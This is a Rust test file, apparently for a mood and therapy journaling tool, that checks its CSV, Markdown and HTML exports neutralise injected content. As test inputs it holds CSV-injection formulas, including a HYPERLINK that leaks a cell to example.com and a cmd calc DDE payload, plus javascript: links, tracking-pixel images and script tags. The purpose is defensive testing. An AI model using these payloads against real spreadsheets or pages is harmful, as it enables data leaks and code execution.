    assert!(err.contains("is the database itself"), "{err}");
    assert!(!fresh.db.exists());
}

/// What a spreadsheet runs as a formula when a cell starts with it (OWASP,
/// "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The reading documented in docs/data.md, written here from the docs:
/// a cell of one or more `'` followed by a formula start lost one `'`.
fn unguarded(cell: &str) -> String {
    let after = cell.trim_start_matches('\'');
    if cell.starts_with('\'') && after.starts_with(FORMULA_STARTS) {
        cell[1..].to_string()
    } else {
        cell.to_string()
    }
}

#[test]
fn csv_cells_never_start_a_formula_and_read_back_exactly() {
    let env = Env::new();
    history(&env);
    // Words that start like formulas, brought in through afterglow's own
    // JSON, which keeps them exactly (typed words lose their outer spaces).
    let mut export = env.json(&["export"]);
    let texts = [
        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
        "''+twice",
        "'plain quote",
    ];
    let journal = export["journal"].as_array_mut().unwrap();
    let template = journal[0].clone();
    journal.clear();
    for (i, text) in texts.iter().enumerate() {
        let mut e = template.clone();
        e["id"] = serde_json::json!(100 + i);
        e["body"] = serde_json::json!(text);
        journal.push(e);
    }
    export["sessions"][1]["note"] = serde_json::json!("=1+1");
    export["therapy"][0]["note"] = serde_json::json!("@A1");
    export["intentions"][0]["text"] = serde_json::json!("-1");
    export["habits"][0]["name"] = serde_json::json!("=1+1");
    export["checkins"] = serde_json::json!([{
        "id": 1, "at": "2026-01-05T08:00:00Z", "mood": 4,
        "anxiety": null, "energy": 6, "note": "=1+1 and a heavy head"
    }]);
    export["questionnaire_results"] = serde_json::json!([{
        "id": 1, "key": "reflection", "name": "@mine", "version": "-v2",
        "at": "2026-01-05T09:00:00Z", "answers": [-1, 2], "total": 1, "band": "+calm"
    }]);
    let file = env.dir.path().join("formulas.json");
    fs::write(&file, export.to_string()).unwrap();
    let other = Env::new();
    other.ok(&["import", "--from", "afterglow", file.to_str().unwrap()]);
    let stored = other.json(&["export"]);

    let dir = other.dir.path().join("csv");
    other.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
    for name in CSV_FILES {
        let path = dir.join(name);
        let mut r = ::csv::Reader::from_path(&path).unwrap();
        for record in r.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(FORMULA_STARTS),
                    "{name}: a cell starts a formula: {cell:?}"
                );
            }
        }
    }
    let checkins = read_csv(&dir.join("checkins.csv"));
    assert_eq!(unguarded(&checkins[0]["note"]), "=1+1 and a heavy head");
    let results = read_csv(&dir.join("questionnaire_results.csv"));
    assert_eq!(
        [
            &results[0]["name"],
            &results[0]["version"],
            &results[0]["band"],
            &results[0]["answers"]
        ]
        .map(|c| unguarded(c)),
        ["@mine", "-v2", "+calm", "-1 2"]
    );
    // The prefixed cells are quoted, as OWASP advises.
    let raw = fs::read_to_string(dir.join("journal.csv")).unwrap();
    assert!(raw.contains(",\"'=HYPERLINK("), "{raw}");
    assert!(raw.contains(",\"'-2+3\"\r\n"), "{raw}");
    assert!(raw.contains(",\"''=already quoted\"\r\n"), "{raw}");
    assert!(raw.contains(",'plain quote\r\n"), "{raw}");

    // Undoing exactly the added quote gives back every stored word.
    let bodies: BTreeSet<String> = read_csv(&dir.join("journal.csv"))
        .iter()
        .map(|row| unguarded(&row["body"]))
        .collect();
    let want: BTreeSet<String> = stored["journal"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["body"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(bodies, want);
    assert_eq!(want, texts.iter().map(|t| t.to_string()).collect());
    let habits = read_csv(&dir.join("habits.csv"));
    assert!(habits.iter().any(|h| h["name"] == "'=1+1"), "{habits:?}");
    let ticks = read_csv(&dir.join("habit_ticks.csv"));
    assert!(ticks.iter().all(|t| !t["habit"].starts_with('=')));
    assert_eq!(
        unguarded(&read_csv(&dir.join("sessions.csv"))[1]["note"]),
        "=1+1"
    );
    assert_eq!(
        unguarded(&read_csv(&dir.join("therapy.csv"))[0]["note"]),
        "@A1"
    );
    assert_eq!(
        unguarded(&read_csv(&dir.join("intentions.csv"))[0]["text"]),
        "-1"
    );
}

#[test]
fn links_and_images_in_notes_show_as_text_in_the_report() {
    let env = Env::new();
    let image = "![](http://tracker.example/pixel.png?who=me)";
    let link = "[click me](javascript:alert(1))";
    let reference = "[see][r] and [r]\n[r]: http://tracker.example/ref.png";
    let auto = "<http://auto.example/> <img src=http://tracker.example/i.png>";
    env.ok(&["session", "log", "--at", &rfc(days_ago(2)), "--note", image]);
    env.ok(&["therapy", "log", "--at", &rfc(days_ago(1)), "--note", link]);
    env.ok(&[
        "journal",
        "add",
        &format!("{image}\n{link}\n{reference}\n{auto}"),
    ]);
    env.ok(&["intention", "set", link]);
    env.ok(&["habit", "add", "![x](http://t.example/h.png)"]);
    env.ok(&["habit", "tick", "![x](http://t.example/h.png)"]);
    let md = env.ok(&["export", "--format", "md"]);
    // No inline link or image, no link definition, no autolink, no tag:
    // a viewer has nothing to fetch or to follow.
    for live in ["](", "]:"] {
        assert!(!md.contains(live), "{live:?} is live in:\n{md}");
    }
    for tag in ["<http", "<img"] {
        for (at, _) in md.match_indices(tag) {
            assert!(md[..at].ends_with('\\'), "{tag:?} is live in:\n{md}");
        }
    }
    // Every word is still there, escaped so that it shows as typed.
    for shown in [
        "![]\\(http://tracker.example/pixel.png?who=me)",
        "[click me]\\(javascript:alert(1))",
        "[r]\\: http://tracker.example/ref.png",
        "\\<http://auto.example/>",
        "| ![x]\\(http://t.example/h.png) |",
    ] {
        assert!(md.contains(shown), "{shown:?} is missing from:\n{md}");
    }
}

/// Where the report holds a tag, an autolink, an inline link or image, or
/// a link definition that a CommonMark viewer would act on: a `<` before a
/// letter, `/`, `!` or `?`, or a `](` or `]:`, that no backslash escapes.
/// Escapes are read as CommonMark reads them, a backslash before ASCII
/// punctuation taking that character (another backslash included) as text,
/// so `\\<img>` is a shown backslash and a live tag.
fn live_markup(md: &str) -> Vec<String> {
    let chars: Vec<char> = md.chars().collect();
    let mut live = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let next = chars.get(i + 1).copied();
        match chars[i] {
            '\\' if next.is_some_and(|n| n.is_ascii_punctuation()) => i += 1,
            '<' if next.is_some_and(|n| n.is_ascii_alphabetic() || "/!?".contains(n)) => {
                live.push(chars[i..(i + 30).min(chars.len())].iter().collect());
            }
            ']' if matches!(next, Some('(' | ':')) => {
                live.push(
                    chars[i.saturating_sub(20)..(i + 20).min(chars.len())]
                        .iter()
                        .collect(),
                );
            }
            _ => {}
        }
        i += 1;
    }
    live
}

#[test]
fn a_backslash_of_their_own_never_turns_an_escape_off() {
    // Each is text as typed; with the report's own backslash escaped by the
    // person's, the first would fetch an image whenever the report is
    // viewed (issue: `\<` became `\\<`).
    let nasty = [
        "\\<img src=//e.x/a.png>",
        "\\![x](http://e.x/b.png)",
        "\\[x](javascript:alert(1))",
        "\\\\<img src=//e.x/c.png>",
        "\\<http://e.x/d>",
        "\\",
    ];
    let all = nasty.join(" ");
    let lines = nasty.join("\n");
    let env = Env::new();
    env.ok(&["session", "log", "--at", &rfc(days_ago(3)), "--note", &all]);
    env.ok(&[
        "session",
        "log",
        "--at",
        &rfc(days_ago(2)),
        "--note",
        &lines,
    ]);
    env.ok(&["intention", "set", &all]);
    env.ok(&["session", "log"]);
    env.ok(&["intention", "reflect", &lines]);
    // This one waits for the next session.
    env.ok(&["intention", "set", &lines]);
    env.ok(&["therapy", "log", "--at", &rfc(days_ago(2)), "--note", &all]);
    env.ok(&[
        "therapy",
        "log",
        "--at",
        &rfc(days_ago(1)),
        "--note",
        &lines,
    ]);
    env.ok(&["journal", "add", &all]);
    env.ok(&["journal", "add", &lines]);
    for name in &nasty[..5] {
        env.ok(&["habit", "add", name]);
        env.ok(&["habit", "tick", name]);
    }
    env.ok(&[
        "habit",
        "add",
        "\\<img src=//e.x/q>",
        "--unit",
        "\\<b>",
        "--target",
        "2",
    ]);
    let md = env.ok(&["export", "--format", "md"]);
    let live = live_markup(&md);
    assert!(live.is_empty(), "live markup {live:#?} in:\n{md}");
    // Every place a person's words go was reached, and shows them as typed:
    // a doubled backslash is the one they wrote.
    let place = |from: &str, to: &str| &md[md.find(from).unwrap()..md.find(to).unwrap()];
    let habits = place("## Habits", "## Sessions");
    let sessions = place("#### Session", "## Planned");
    let therapy = &md[md.find("## Therapy").unwrap()..];
    for (part, want) in [
        (habits, r"| \\\<img src=//e.x/a.png> |"),
        (habits, r"| \\\\\<img src=//e.x/c.png> |"),
        (habits, "\\\\\\<img src=//e.x/q> 2\u{a0}\\\\\\<b>;"),
        (
            sessions,
            r"Note: \\\<img src=//e.x/a.png> \\![x]\(http://e.x/b.png)",
        ),
        (sessions, r"> \\[x]\(javascript:alert(1))"),
        (sessions, r"> \\\\\<img src=//e.x/c.png>"),
        (sessions, r"> \\\<http://e.x/d>  "),
        (sessions, "\n> \\\\\n"),
        (
            therapy,
            r": \\\<img src=//e.x/a.png> \\![x]\(http://e.x/b.png)",
        ),
        (therapy, r"  > \\![x]\(http://e.x/b.png)"),
        (
            &md[md.find("## Other journal").unwrap()..],
            r"> \\\<http://e.x/d>",
        ),
    ] {
        let joined = part
            .replace("\n  > ", " ")
            .replace("\n> ", " ")
            .replace('\n', " ");
        assert!(
            part.contains(want) || joined.contains(want),
            "{want:?} is missing from:\n{part}"
        );
    }
}

/// One tick on the earliest day the store keeps and one today: the weekly
/// table follows the two ticks, not the 2000 years between them (a Loop
/// import with a check-in dated 0001-01-01 once made a 265 MB report).
#[test]
fn a_tick_in_year_0_makes_a_short_report() {
    let env = Env::new();
    env.ok(&["habit", "add", "Walk"]);
    env.ok(&["habit", "tick", "walk", "--date", "0000-01-01"]);
    env.ok(&["habit", "tick", "walk"]);
    env.ok(&["journal", "add", "--mood", "6", "today"]);
    let md = env.ok(&["export", "--format", "md"]);
    assert!(md.lines().count() < 100, "{} lines", md.lines().count());
    let rows: Vec<&str> = md.lines().filter(|l| l.starts_with("| ")).collect();
    assert!(rows.len() < 10, "{rows:#?}");
    // The year-0 week holds the tick (a Saturday and a Sunday were kept);
    // the years between are one honest row: kept every day, ticked on none.
    assert!(
        rows.contains(&"| -0001-12-27              |     - |        - |          - |      1/2 |"),
        "{rows:#?}"
    );
    let quiet = rows
        .iter()
        .find(|r| r.starts_with("| 0000-01-03 to "))
        .unwrap_or_else(|| panic!("{rows:#?}"));
    let walk = quiet.trim_end_matches(" |").rsplit(' ').next().unwrap();
    let kept: u32 = walk.strip_prefix("0/").unwrap().parse().unwrap();
    assert!(kept > 2025 * 365, "{quiet}");
    assert!(
        md.replace('\n', " ").contains(
            "A row from one day to another is a stretch of weeks in which nothing was ticked."
        ),
        "{md}"
    );
}

/// serde's and chrono's own words ("invalid length 0, expected struct …",
/// "input is out of range") mean nothing to a person; a file that is not
/// an afterglow export, or has a value it cannot read, is named plainly.
#[test]
fn a_file_that_is_not_an_export_is_refused_in_plain_words() {
    let env = Env::new();
    history(&env);
    let good = env.ok(&["export"]);
    let other = Env::new();
    let jargon = [
        "invalid length",
        "expected struct",
        "input is out of range",
        "invalid type",
        "missing field",
        "`",
    ];
    let dir = env.dir.path();
    let mut cases: Vec<(String, String)> = [
        ("[]", "this is not an afterglow export: it holds a list at the top, where an export holds an object ({ … })"),
        ("\"notes\"", "this is not an afterglow export: it holds a text at the top, where an export holds an object ({ … })"),
        ("42", "this is not an afterglow export: it holds a number at the top"),
        ("null", "this is not an afterglow export: it holds null at the top"),
    ]
    .into_iter()
    .map(|(text, words)| (text.to_string(), words.to_string()))
    .collect();
    let broken = |from: &str, to: &str| {
        assert!(good.contains(from), "{from}");
        good.replacen(from, to, 1)
    };
    let exported_at = good
        .lines()
        .find(|l| l.contains("\"exported_at\""))
        .unwrap()
        .to_string();
    let line_of =
        |text: &str, needle: &str| 1 + text[..text.find(needle).unwrap()].matches('\n').count();
    let bad_time = broken(&exported_at, "  \"exported_at\": \"2026-13-01T00:00:00Z\",");
    let line = line_of(&bad_time, "2026-13-01");
    cases.push((
        bad_time,
        format!("line {line}: this export has a value afterglow cannot read: \"exported_at\" is \"2026-13-01T00:00:00Z\", which is not a time afterglow can read"),
    ));
    let bad_mood = broken("\"mood\": 7", "\"mood\": \"high\"");
    let line = line_of(&bad_mood, "\"high\"");
    cases.push((
        bad_mood,
        format!("line {line}: this export has a value afterglow cannot read: \"mood\" is the text \"high\", where a whole number belongs"),
    ));
    let no_id = broken("\"id\": 1,", "");
    cases.push((no_id, "a record has no \"id\"".to_string()));
    for (i, (text, words)) in cases.iter().enumerate() {
        let file = dir.join(format!("not-an-export-{i}.json"));
        fs::write(&file, text).unwrap();
        let err = other.fails(&["import", "--from", "afterglow", file.to_str().unwrap()]);
        assert!(err.contains(words.as_str()), "{text}\n---\n{err}");
        for word in jargon {
            assert!(!err.contains(word), "{word:?} in: {err}");
        }
    }
}

/// Rows another program wrote as afterglow never would: a journal body
/// that is not UTF-8, and a session of a kind afterglow does not know.
fn with_bad_rows(env: &Env) {
    history(env);
    env.ok(&["journal", "add", "kept words"]);
    env.ok(&["journal", "add", "soon to be bytes"]);
    let conn = rusqlite::Connection::open(&env.db).unwrap();
    conn.execute_batch(
        "PRAGMA ignore_check_constraints = ON;
         UPDATE journal SET body = CAST(X'E29CFF' AS TEXT) WHERE id = 3;
         UPDATE sessions SET kind = 'teleport' WHERE id = 2;",
    )
    .unwrap();
}

const JARGON: [&str; 4] = [
    "Conversion error",
    "index",
    "Invalid column type",
    "database error",
];

#[test]
fn a_row_that_cannot_be_read_is_named_and_left_out_only_when_asked() {
    let env = Env::new();
    with_bad_rows(&env);

    let err = env.fails(&["journal", "list"]);
    let journal = "journal entry 3 cannot be read: its body is not readable text (it is not UTF-8)";
    assert!(err.contains(journal), "{err}");
    let session = "session 2 cannot be read: unknown session kind \"teleport\"";
    for format in ["json", "md", "ics", "csv"] {
        let out = env.dir.path().join(format!("all.{format}"));
        let err = env.fails(&["export", "--format", format, "--out", out.to_str().unwrap()]);
        assert!(err.contains(session) && err.contains("--skip-bad"), "{err}");
        assert!(err.contains("nothing was exported"), "{err}");
        assert!(!out.exists());
        for word in JARGON {
            assert!(!err.contains(word), "{word:?} in {err}");
        }
    }

    let out = env
        .command()
        .args(["export", "--skip-bad"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let told = String::from_utf8(out.stderr).unwrap();
    for line in [
        "afterglow: left out session 2, which cannot be read: unknown session kind \"teleport\"",
        "afterglow: left out journal entry 3, which cannot be read: its body is not readable text (it is not UTF-8)\n",
        "afterglow: kept journal entry 1 without its link to session 2, which was left out\n",
        "afterglow: kept intention 1 without its link to session 2, which was left out\n",
    ] {
        assert!(told.contains(line), "{line}\n---\n{told}");
    }
    let rest: Value = serde_json::from_slice(&out.stdout).unwrap();
    let bodies: Vec<&str> = rest["journal"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["body"].as_str().unwrap())
        .collect();
    assert_eq!(bodies.len(), 2, "{bodies:?}");
    assert!(bodies.contains(&"kept words") && bodies.contains(&AWKWARD));
    let ids: Vec<i64> = rest["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, [1, 3]);
    // What was written still imports whole.
    let file = env.dir.path().join("rest.json");
    fs::write(&file, &out.stdout).unwrap();
    let other = Env::new();
    other.ok(&["import", "--from", "afterglow", file.to_str().unwrap()]);
    assert_eq!(
        other.json(&["export"])["journal"].as_array().unwrap().len(),
        2
    );

    let report = env.dir.path().join("report.md");
    let out = env
        .command()
        .args(["export", "--skip-bad", "--format", "md", "--out"])
        .arg(&report)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("left out journal entry 3"));
    assert!(fs::read_to_string(&report).unwrap().contains("kept words"));
}

/// A database kept inside a folder of an earlier CSV export, under one of
/// its names (a backup is a rollback-mode file, with no -wal to give it
/// away): replacing the export must not remove it.
#[test]
fn a_csv_export_never_replaces_a_folder_that_holds_the_database() {
    let env = Env::new();
    env.ok(&["journal", "add", "keep me"]);
    let dir = env.dir.path().join("csvd");
    env.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
    let inside = dir.join("journal.csv");
    env.ok(&["backup", "--force", inside.to_str().unwrap()]);
    let bytes = fs::read(&inside).unwrap();
    let out = env
        .bare()
        .args(["--db", inside.to_str().unwrap()])
        .args(["export", "--format", "csv", "--force", "--out"])
        .arg(&dir)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("is the database itself"), "{err}");
    assert_eq!(fs::read(&inside).unwrap(), bytes);
}

/// Stored words that would run if written into a page as they are.
const HOSTILE: &str =
    "<script>alert(1)</script> \"quoted\" 'single' & <img src=http://example.org/x.png>";

/// The text of a parsed node with the page's character references read
/// back, written here rather than borrowed from the code under test.
fn page_text(raw: &str) -> String {
    raw.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

/// Every element of a parsed page, with its name in lower case.
fn elements<'a>(dom: &'a tl::VDom<'a>) -> Vec<(String, &'a tl::HTMLTag<'a>)> {
    dom.nodes()
        .iter()
        .filter_map(|n| n.as_tag())
        .map(|t| (t.name().as_utf8_str().to_ascii_lowercase(), t))
        .collect()
}

#[test]
fn html_is_one_private_self_contained_page_with_charts_and_escaped_words() {
    let env = Env::new();
    history(&env);
    env.ok(&["journal", "add", "--mood", "4", HOSTILE]);
    env.ok(&["intention", "set", HOSTILE]);
    env.ok(&["session", "log", "--at", &rfc(days_ago(1))]);
    env.ok(&["intention", "reflect", "--replace", HOSTILE]);
    {
        let mut db = afterglow::store::Db::open(&env.db).unwrap();
        for n in 1..=20 {
            db.add_checkin(&afterglow::store::NewCheckIn {
                at: days_ago(n),
                mood: afterglow::domain::Mood::new(3 + n % 5).unwrap(),
                anxiety: None,
                energy: None,
                note: Some(HOSTILE),
            })
            .unwrap();
        }
        db.add_result(&afterglow::store::NewResult {
            key: "mine",
            name: HOSTILE,
            version: "v1",
            at: days_ago(2),
            answers: &[1],
            total: 1,
            band: Some(HOSTILE),
        })
        .unwrap();
    }
    let out = env.dir.path().join("report.html");
    let said = env.ok(&["export", "--format", "html", "--out", out.to_str().unwrap()]);
    assert!(said.contains("Wrote a report"), "{said}");
    assert_private_file(&out);
    let html = fs::read_to_string(&out).unwrap();
    assert_eq!(html, env.ok(&["export", "--format", "html"]));

    let dom = tl::parse(&html, tl::ParserOptions::default()).unwrap();
    let parser = dom.parser();
    let tags = elements(&dom);
    let named = |name: &'static str| -> Vec<&tl::HTMLTag> {
        tags.iter()
            .filter(|(n, _)| n == name)
            .map(|(_, t)| *t)
            .collect()
    };
    assert!(named("script").is_empty(), "a script element");
    for name in ["link", "iframe", "object", "embed", "img", "base"] {
        assert!(named(name).is_empty(), "a {name} element");
    }
    // Nothing is fetched: no address in an attribute, no import or url()
    // in the styles.
    for (name, tag) in &tags {
        for (attr, value) in tag.attributes().iter() {
            let value = value.unwrap_or_default().to_ascii_lowercase();
            let attr = attr.to_ascii_lowercase();
            assert!(!attr.starts_with("on"), "<{name} {attr}>");
            if ["src", "href", "xlink:href", "action", "srcset", "poster"].contains(&attr.as_str())
            {
                panic!("<{name} {attr}={value}>");
            }
            assert!(!value.contains("url("), "<{name} {attr}={value}>");
        }
    }
    let style: String = named("style")
        .iter()
        .map(|t| t.inner_text(parser).into_owned())
        .collect();
    assert!(style.contains("@page"), "{style}");
    assert!(style.contains("@media print"), "{style}");
    for never in ["@import", "url(", "http", "@font-face"] {
        assert!(!style.contains(never), "{never} in the styles");
    }

    // The mood chart: a point a day, the trailing mean, session marks.
    let chart = dom
        .get_element_by_id("mood-chart")
        .and_then(|h| h.get(parser))
        .and_then(|n| n.as_tag())
        .expect("a mood chart");
    assert_eq!(chart.name().as_utf8_str(), "svg");
    let inside: Vec<&tl::HTMLTag> = chart
        .children()
        .all(parser)
        .iter()
        .filter_map(|n| n.as_tag())
        .collect();
    let class_of = |t: &tl::HTMLTag| {
        t.attributes()
            .class()
            .map(|c| c.as_utf8_str().into_owned())
            .unwrap_or_default()
    };
    let points = inside.iter().filter(|t| class_of(t) == "day").count();
    assert!(points >= 20, "{points} points");
    let path = |class: &str| {
        inside
            .iter()
            .find(|t| class_of(t) == class)
            .and_then(|t| t.attributes().get("d").flatten())
            .map(|d| d.as_utf8_str().into_owned())
            .unwrap_or_default()
    };
    assert!(path("trailing").starts_with('M'), "no trailing mean");
    assert!(
        path("sessions").matches('M').count() >= 3,
        "no session marks"
    );
    assert!(
        inside.iter().any(|t| class_of(t) == "window"),
        "no window bands"
    );
    assert!(
        inside
            .iter()
            .any(|t| t.name().as_utf8_str() == "text" && t.inner_text(parser).contains(' ')),
        "no dated axis labels"
    );
    assert_eq!(
        named("svg").len(),
        2,
        "the mood and the questionnaire charts"
    );

    // The relief table has a row for each course and booster.
    let v = env.json(&["insights", "--json"]);
    let runs = v["courses"].as_array().unwrap().len() + v["boosters"].as_array().unwrap().len();
    assert!(runs > 0, "{v:#}");
    let table = dom
        .get_element_by_id("relief-table")
        .and_then(|h| h.get(parser))
        .and_then(|n| n.as_tag())
        .expect("a relief table");
    let rows = table
        .children()
        .all(parser)
        .iter()
        .filter_map(|n| n.as_tag())
        .filter(|t| t.name().as_utf8_str() == "tr")
        .count();
    assert_eq!(rows, runs + 1, "a head row and one row each");

    // The hostile words are words: in the journal entry, the intention
    // and its reflection, and the questionnaire's name and band.
    let texts: Vec<String> = tags
        .iter()
        .filter(|(n, _)| ["div", "td", "h3", "title"].contains(&n.as_str()))
        .map(|(_, t)| page_text(&t.inner_text(parser)))
        .collect();
    let whole = texts.iter().filter(|t| t.contains(HOSTILE)).count();
    assert!(whole >= 5, "{whole} places hold the words whole");

    // The page says what it is, and the crisis line is there whole.
    let crisis = dom
        .get_element_by_id("crisis")
        .and_then(|h| h.get(parser))
        .map(|n| page_text(&n.inner_text(parser)))
        .expect("a crisis line");
    assert_eq!(crisis, CRISIS);
    assert!(page_text(&html).contains(NOT_MEDICAL_ADVICE));
}

#[test]
fn html_of_an_empty_database_is_calm_and_whole() {
    let env = Env::new();
    let html = env.ok(&["export", "--format", "html"]);
    let dom = tl::parse(&html, tl::ParserOptions::default()).unwrap();
    assert!(elements(&dom).iter().all(|(n, _)| n != "script"));
    assert!(html.contains("No check-ins or journal moods were recorded in this period."));
    assert!(html.contains("No sessions in this period."));
    assert!(html.trim_end().ends_with("</html>"));
}
